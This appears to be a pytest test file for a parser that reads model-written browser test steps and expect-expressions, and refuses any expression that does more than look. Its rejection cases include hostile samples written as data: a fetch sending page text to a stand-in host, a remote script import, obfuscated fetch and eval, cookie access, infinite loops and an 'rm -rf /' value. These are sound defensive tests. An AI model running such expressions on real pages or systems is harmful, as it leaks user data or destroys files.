from __future__ import annotations

import pytest

from engine.core.probe_replies import LONGEST_EXPRESSION, LONGEST_WAIT, MOST_STEPS, parse_probes
from engine.core.probes import Asked, Probe, Step, Verb, guesses
from tests.little_time import little_time

ASKED = (Asked(2, "It greets"), Asked(5, "It is pretty"), Asked(6, "The total is 5"))
GREETS = "document.querySelector('#greeting').textContent.includes('Ada')"


def one(lines: str) -> Probe:
    (probe,) = parse_probes(f"1\n{lines}", ASKED[:1])
    return probe


def test_each_sentence_has_its_entry() -> None:
    reply = f"1\nfill #name = Ada\nclick #greet\nexpect {GREETS}\n2\nnot automatable: taste\n3\nexpect 5 < document.links.length\n"
    first, second, third = parse_probes(reply, ASKED)
    assert first == Probe(2, "It greets", (Step(Verb.FILL, "#name", "Ada"), Step(Verb.CLICK, "#greet")), GREETS)
    assert (second.expression, second.why_not) == ("", "not automatable, says the model: taste")
    assert (third.position, third.expression) == (6, "5 < document.links.length")


@pytest.mark.parametrize(
    "reply",
    [
        f"Sure! Here is the test:\n\n```text\n1\nexpect {GREETS}\n```\nHope it helps.",
        f"**1.** It greets\n- expect {GREETS}",
        f"1) expect: {GREETS};\nThis checks that it greets.",
        f"expect {GREETS}",
        f"### Test 1:\nexpect `{GREETS}`",
    ],
)
def test_fences_and_prose_around_an_entry_are_left_out(reply: str) -> None:
    assert parse_probes(reply, ASKED[:1])[0].expression == GREETS


@pytest.mark.parametrize(
    ("line", "step"),
    [
        ("fill #name = Ada L", Step(Verb.FILL, "#name", "Ada L")),
        ('fill "#name" "Ada L"', Step(Verb.FILL, "#name", "Ada L")),
        ("fill #name 'Ada'", Step(Verb.FILL, "#name", "Ada")),
        ("fill input[name=who] with Ada", Step(Verb.FILL, "input[name=who]", "Ada")),
        ("fill #name = ''", Step(Verb.FILL, "#name", "")),
        ("select #region = North", Step(Verb.SELECT, "#region", "North")),
        ("click '#tabs button.second'", Step(Verb.CLICK, "#tabs button.second")),
        ("press #name = Enter", Step(Verb.PRESS, "#name", "Enter")),
        ("press Escape", Step(Verb.PRESS, "", "Escape")),
        ("press Enter in #name", Step(Verb.PRESS, "#name", "Enter")),
        ("click on #greet", Step(Verb.CLICK, "#greet")),
        ("fill #name = please click here", Step(Verb.FILL, "#name", "please click here")),
        ("fill #name = 'then click #greet expect !x'", Step(Verb.FILL, "#name", "then click #greet expect !x")),
        ("wait 300 ms", Step(Verb.WAIT, "", "300")),
        ("reload", Step(Verb.RELOAD)),
        ("open ?url=https://x.test/a.png", Step(Verb.OPEN, "", "?url=https://x.test/a.png")),
        ("open: index.html?a=1&b=%20#top", Step(Verb.OPEN, "", "?a=1&b=%20#top")),
        ("open '/?a=1'", Step(Verb.OPEN, "", "?a=1")),
        ("open = #about", Step(Verb.OPEN, "", "#about")),
        ("open the page", Step(Verb.RELOAD)),
    ],
)
def test_steps_are_read_in_the_ways_that_models_write_them(line: str, step: Step) -> None:
    assert one(f"{line}\nexpect {GREETS}").steps == (step,)


@pytest.mark.parametrize(
    "line",
    [
        f'fill #name = "Ada" click #greet expect {GREETS}',
        f"fill #name = Ada click on #greet expect {GREETS}",
        f"- fill #name with 'Ada' click #greet expect {GREETS}",
    ],
)
def test_steps_that_a_model_runs_together_on_one_line_are_read_one_by_one(line: str) -> None:
    assert one(line) == Probe(2, "It greets", (Step(Verb.FILL, "#name", "Ada"), Step(Verb.CLICK, "#greet")), GREETS)
    assert parse_probes(f"1. {line}\n2. {line}", ASKED)[1].expression == GREETS


def test_an_address_on_one_line_with_the_rest_is_a_step() -> None:
    found = one("click #a open ?x=1 expect document.title === '1'")
    assert found.steps == (Step(Verb.CLICK, "#a"), Step(Verb.OPEN, "", "?x=1"))


def test_of_several_expressions_each_must_hold() -> None:
    assert one("click #a\nexpect 1 < 2\nexpect 2 < 3\nThat is all.").expression == "(1 < 2) && (2 < 3)"
    assert "too long together" in one(f"expect {'x' * 500}\nexpect {'y' * 500}").why_not


def test_a_choice_whose_value_was_filled_in_is_a_choice() -> None:
    found = one("fill #region = West\nselect #region\nclick #rows\nexpect 1 < 2")
    assert found.steps == (Step(Verb.SELECT, "#region", "West"), Step(Verb.CLICK, "#rows"))


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("#a-b.textContent == '#c.d'", "document.querySelector('#a-b').textContent == '#c.d'"),
        ("#a.value != #b.value", "document.querySelector('#a').value != document.querySelector('#b').value"),
        ("document.querySelector('#a.b') != null", "document.querySelector('#a.b') != null"),
    ],
)
def test_a_bare_id_in_an_expression_is_looked_up(written: str, read: str) -> None:
    assert one(f"expect {written}").expression == read


def test_an_expression_is_not_cut_by_the_words_in_it() -> None:
    whole = "document.title === x && y.click === 1"
    assert one(f"expect {whole}").expression == whole


@pytest.mark.parametrize(
    ("lines", "why"),
    [
        ("", "wrote no probe"),
        ("click #a", "expects nothing"),
        ("expect", "missing or too long"),
        ("goto https://example.com\nexpect true", "no step: goto"),
        ("open https://example.com/?a=1\nexpect true", "open takes a query or a fragment of the page"),
        ("open //example.com/?a=1\nexpect true", "open takes a query or a fragment of the page"),
        ("open ?a=1 and look\nexpect true", "open takes a query or a fragment of the page"),
        ("It greets\nThen it waves\nexpect true", "no step: Then"),
        ("fill #name\nexpect true", "lacks its value"),
        ("select #name\nexpect true", "lacks its value"),
        ("click #a\nexpect 1 < 2\nclick #b\nexpect 2 < 3", "goes on after"),
        ("click text=Save\nexpect true", "no CSS selector"),
        ("click //button\nexpect true", "no CSS selector"),
        ("click #a >> b\nexpect true", "no CSS selector"),
        ("press #a = rm -rf /\nexpect true", "takes a key"),
        ("wait for it\nexpect true", "takes milliseconds"),
        ("wait 2000\nwait 2000\nexpect true", f"longer than {LONGEST_WAIT} ms"),
        ("click #a\n" * (MOST_STEPS + 1) + "expect true", f"more than {MOST_STEPS} steps"),
        (f"fill #a = {'x' * 400}\nexpect true", "too long"),
        (f"click #{'x' * 400}\nexpect true", "too long"),
        (f"expect {'x' * (LONGEST_EXPRESSION + 1)}", "too long"),
    ],
)
def test_whatever_else_it_says_is_no_probe(lines: str, why: str) -> None:
    probe = one(lines)
    assert (probe.steps, probe.expression) == ((), "")
    assert why in probe.why_not


@pytest.mark.parametrize(
    "expression",
    [
        "fetch('https://elsewhere.example/?' + document.body.innerText)",
        "new XMLHttpRequest()",
        "navigator.sendBeacon('/x')",
        "import('https://elsewhere.example/x.js')",
        "window['fe' + 'tch']('x')",
        "self[atob('ZmV0Y2g=')]('x')",
        "[].constructor.constructor('return 1')()",
        "eval('1')",
        "location.href = 'https://elsewhere.example/'",
        "location='x'",
        "location.assign('x')",
        "window.open('x')",
        "history.back()",
        "document.title = 'X'",
        "document.querySelector('#a').textContent = '5'",
        "document.querySelector('#a').click()",
        "document.querySelector('#a').classList.add('x')",
        "localStorage.setItem('a', 'b')",
        "document.cookie",
        "(() => { while (true) {} })()",
        "(() => { for (;;) {} })()",
        "x ??= 1",
        "x++",
        "true; fetch('x')",
        "f\\u0065tch('x')",
        "`${fetch('x')}`",
        "setTimeout(() => true, 1e9)",
    ],
)
def test_an_expression_that_does_more_than_look_is_refused(expression: str) -> None:
    assert "does more than look" in one(f"expect {expression}").why_not


@pytest.mark.parametrize(
    "expression",
    [
        GREETS,
        "document.querySelectorAll('#rows tbody tr').length >= 3",
        "[...document.querySelectorAll('li')].every(li => li.textContent !== '')",
        "location.href.endsWith('?a=1') && document.title === 'for while fetch = x'",
        "/^\\d{4}-\\d{2}$/.test(document.querySelector('#d').textContent)",
        "JSON.parse(localStorage.getItem('notes'))[0] === 'a'",
        "getComputedStyle(document.body).display == 'block'",
        "document.querySelector('dialog').open",
    ],
)
def test_an_expression_that_looks_is_let_through(expression: str) -> None:
    assert one(f"expect {expression}").expression == expression


@pytest.mark.parametrize(
    "reply",
    [
        "",
        "\0" * 1000,
        "1\n" * 30_000,
        "1\nfill " + '"' * 200_000,
        "1\nfill " + "= " * 60_000,
        "1\nexpect " + "a[" * 100_000,
        "1\nexpect " + "'" * 100_000,
        "[" * 100_000,
        "```" * 50_000,
        "999999999999\nexpect true",
        "1\nfill " + "a " * 400 + "with " * 400,
        "# " * 50_000,
    ],
)
def test_hostile_replies_give_no_probe_and_take_no_time(reply: str) -> None:
    with little_time():
        probes = parse_probes(reply, ASKED)
    assert [probe.expression for probe in probes] == ["", "", ""]
    assert all(probe.why_not and len(probe.why_not) <= 500 for probe in probes)


WORDS = "A field #name, a button #greet and an output #greeting that says Hello. Region North."


@pytest.mark.parametrize(
    ("lines", "guessed"),
    [
        (f"fill #name = Ada\nclick #greet\nexpect {GREETS}", ()),
        ("expect document.querySelector('#greeting').textContent.trim() === 'Hello'", ()),
        ("expect document.querySelectorAll('.card').length === 3", ("card", "3")),
        ("click #submit\nexpect document.title.length > 0", ("submit",)),
        ("expect document.body.innerText.includes('Welcome')", ("Welcome",)),
        ("expect /x/.test(document.title)", ("a pattern",)),
        ("select #region = North\nexpect document.querySelector('#region').value === 'North'", ()),
    ],
)
def test_names_that_neither_brief_nor_checks_give_are_guesses(lines: str, guessed: tuple[str, ...]) -> None:
    assert guesses(one(lines), WORDS) == guessed
